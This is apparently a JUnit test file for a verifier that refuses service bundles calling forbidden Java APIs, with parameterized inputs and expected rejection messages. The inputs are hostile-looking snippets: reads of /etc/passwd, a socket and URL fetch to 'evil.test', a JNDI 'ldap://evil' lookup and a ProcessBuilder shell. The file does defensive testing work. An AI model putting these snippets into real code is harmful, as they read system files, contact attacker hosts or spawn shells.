package org.foyer.lib.verify;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.IOException;
import java.util.List;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Attacks on the runtime by the code of a service bundle (store design 4), and that a good one
 * passes.
 */
class BundleAttackTest extends VerifierCase {
    @Test
    void aGoodServicePasses() throws IOException {
        assertEquals(List.of(), verify(new SampleJar()));
    }

    @Test
    @DisplayName(
            "What bnd writes by default passes: its own headers, packages of lambdas and records")
    void whatBndWritesByDefaultPasses() throws IOException {
        String manifest =
                SampleJar.MANIFEST.replace(
                                ",java.util",
                                ",java.lang,java.lang.invoke,java.lang.runtime,java.util")
                        + "Private-Package: org.foyer.service.sample\n"
                        + "Bnd-LastModified: 1764190000000\n"
                        + "Created-By: 17.0.15 (Eclipse Adoptium)\n"
                        + "Tool: Bnd-7.1.0.202411251545\n";
        assertEquals(List.of(), verify(new SampleJar().text("META-INF/MANIFEST.MF", manifest)));
    }

    @Test
    void theMessageNamesClassMethodAndReference() throws IOException {
        SampleJar jar = new SampleJar().source(body("System.exit(1);"));
        assertEquals(
                List.of(
                        "Class org.foyer.service.sample.Bad, method bad(): calls"
                                + " java.lang.System.exit(int), which a service may not; remove it."),
                verify(jar));
    }

    private static String body(String statements) {
        return "package org.foyer.service.sample; @SuppressWarnings({\"all\"}) class Bad {"
                + " void bad() throws Throwable { "
                + statements
                + " } }";
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '\0',
            value = {
                "System.exit(1);|java.lang.System.exit",
                "System.load(\"x\");|java.lang.System.load",
                "System.loadLibrary(\"x\");|java.lang.System.loadLibrary",
                "System.getenv();|java.lang.System.getenv",
                "System.setProperty(\"a\", \"b\");|java.lang.System.setProperty",
                "System.getProperty(\"a\");|java.lang.System.getProperty",
                "System.setOut(null);|java.lang.System.setOut",
                "System.out.println();|java.lang.System.out",
                "System.gc();|java.lang.System.gc",
                "Runtime.getRuntime().halt(1);|java.lang.Runtime",
                "new ProcessBuilder(\"sh\").start();|java.lang.ProcessBuilder",
                "ProcessHandle.current().destroy();|java.lang.ProcessHandle",
                "new Thread(() -> {}).start();|java.lang.Thread",
                "Thread.currentThread().getContextClassLoader();|java.lang.Thread",
                "Thread.getAllStackTraces();|java.lang.Thread",
                "Thread.sleep(1000000);|java.lang.Thread",
                "new ThreadGroup(\"g\");|java.lang.ThreadGroup",
                "new ThreadLocal<String>();|java.lang.ThreadLocal",
                "getClass().getClassLoader();|java.lang.Class.getClassLoader",
                "getClass().getProtectionDomain();|java.lang.Class.getProtectionDomain",
                "getClass().getModule();|java.lang.Class.getModule",
                "getClass().getMethods();|java.lang.Class.getMethods",
                "getClass().getResourceAsStream(\"/x\");|java.lang.Class.getResourceAsStream",
                "Class.forName(\"java.lang.Runtime\");|java.lang.Class.forName",
                "String.class.getDeclaredConstructor().newInstance();|java.lang.reflect",
                "java.lang.reflect.Array.newInstance(String.class, 1);|java.lang.reflect.Array",
                "java.lang.invoke.MethodHandles.lookup();|java.lang.invoke.MethodHandles",
                "StackWalker.getInstance();|java.lang.StackWalker",
                "ModuleLayer.boot();|java.lang.ModuleLayer",
                "java.util.ServiceLoader.load(Runnable.class);|java.util.ServiceLoader",
                "new java.util.Timer();|java.util.Timer",
                "java.util.concurrent.Executors.newCachedThreadPool();|Executors",
                "java.util.concurrent.ForkJoinPool.commonPool();|ForkJoinPool",
                "java.util.concurrent.CompletableFuture.runAsync(() -> {});|CompletableFuture",
                "java.util.List.of(1).parallelStream();|parallelStream",
                "java.util.List.of(1).stream().parallel();|parallel",
                "java.util.stream.StreamSupport.stream(java.util.List.of(1).spliterator(), true);|Spliterator",
                "java.util.Arrays.parallelSort(new int[2]);|parallelSort",
                "new java.util.concurrent.ConcurrentHashMap<String, String>().forEach(1L, (a, b) -> {});|ConcurrentHashMap.forEach",
                "java.util.concurrent.TimeUnit.DAYS.sleep(1);|TimeUnit.sleep",
                "java.util.concurrent.locks.LockSupport.park();|LockSupport",
                "java.util.Locale.setDefault(java.util.Locale.FRANCE);|java.util.Locale.setDefault",
                "java.util.TimeZone.setDefault(null);|java.util.TimeZone.setDefault",
                "Integer.getInteger(\"x\");|java.lang.Integer.getInteger",
                "java.util.ResourceBundle.getBundle(\"x\");|java.util.ResourceBundle",
                "new java.util.Scanner(new java.io.File(\"/etc/passwd\"));|java.util.Scanner",
                "new java.util.Formatter(\"/tmp/x\");|java.util.Formatter",
                "java.nio.file.Files.readAllBytes(java.nio.file.Path.of(\"/etc/passwd\"));|java.nio.file",
                "new java.io.FileInputStream(\"/etc/passwd\");|java.io.FileInputStream",
                "new java.net.Socket(\"evil.test\", 1);|java.net.Socket",
                "java.net.InetAddress.getByName(\"evil.test\");|java.net.InetAddress",
                "new java.net.URL(\"http://evil.test\").openStream();|java.net.URL",
                "java.security.Security.getProviders();|java.security.Security",
                "javax.naming.InitialContext.doLookup(\"ldap://evil\");|javax.naming",
                "java.lang.management.ManagementFactory.getRuntimeMXBean();|java.lang.management",
                "java.util.logging.LogManager.getLogManager().reset();|java.util.logging",
                "java.util.prefs.Preferences.userRoot();|java.util.prefs",
                "new javax.script.ScriptEngineManager();|javax.script",
                "java.lang.ref.Cleaner.create();|java.lang.ref.Cleaner",
                "java.time.zone.ZoneRulesProvider.refresh();|java.time.zone",
                "org.slf4j.LoggerFactory.getILoggerFactory();|org.slf4j.LoggerFactory.getILoggerFactory",
                "org.slf4j.MDC.clear();|org.slf4j.MDC",
                "org.osgi.framework.FrameworkUtil.getBundle(getClass());|org.osgi.framework",
                "org.foyer.api.control.Intents i = null; i.withdrawAll(\"x\");|org.foyer.api.control.Intents",
                "org.foyer.api.history.History h = null; h.purge(null);|org.foyer.api.history.History",
                "org.foyer.api.store.Subscriptions s = null; s.order();|org.foyer.api.store.Subscriptions",
                "new Exception().printStackTrace();|printStackTrace",
                "Runnable r = Runtime.getRuntime()::gc;|java.lang.Runtime",
                "java.util.function.IntConsumer c = System::exit;|java.lang.System.exit",
                "Object o = new Thread[0];|java.lang.Thread",
                "Object o = new Thread[1][1];|java.lang.Thread",
                "Object o = Thread.class;|java.lang.Thread",
                "Object o = this; Thread t = (Thread) o;|java.lang.Thread",
                "try { bad(); } catch (java.io.IOException e) { }|java.io.IOException"
            })
    void attackByCode(String statements, String naming) throws IOException {
        refused(new SampleJar().source(body(statements)), naming);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '\0',
            value = {
                "class Bad extends Thread {}|extends java.lang.Thread",
                "class Bad extends ClassLoader {}|extends java.lang.ClassLoader",
                "class Bad extends java.util.TimerTask { public void run() {} }|java.util.TimerTask",
                "class Bad { @Override protected void finalize() {} }|finalizer",
                "class Bad { native void x(); }|is native",
                "class Bad { Thread t; }|field t: has type java.lang.Thread",
                "class Bad { void x(ClassLoader l) {} }|takes java.lang.ClassLoader",
                "abstract class Bad implements org.osgi.framework.BundleActivator {}|BundleActivator",
                "abstract class Bad implements org.osgi.framework.hooks.resolver.ResolverHook {}|ResolverHook",
                "class Bad extends java.util.ArrayList<String> { void x() { parallelStream(); } }|parallelStream",
                "class Bad extends java.util.concurrent.ConcurrentHashMap<String, String> { void x() { forEach(1, (a, b) -> {}); } }|ConcurrentHashMap.forEach",
                "class Bad extends RuntimeException { void x() { printStackTrace(); } }|printStackTrace",
                "class Bad { void x(org.osgi.framework.BundleContext c) {} }|BundleContext",
                "interface Bad extends java.lang.reflect.InvocationHandler {}|InvocationHandler"
            })
    void attackByDeclaration(String declaration, String naming) throws IOException {
        String source = "package org.foyer.service.sample; @SuppressWarnings(\"all\") ";
        refused(new SampleJar().source(source + declaration), naming);
    }
}
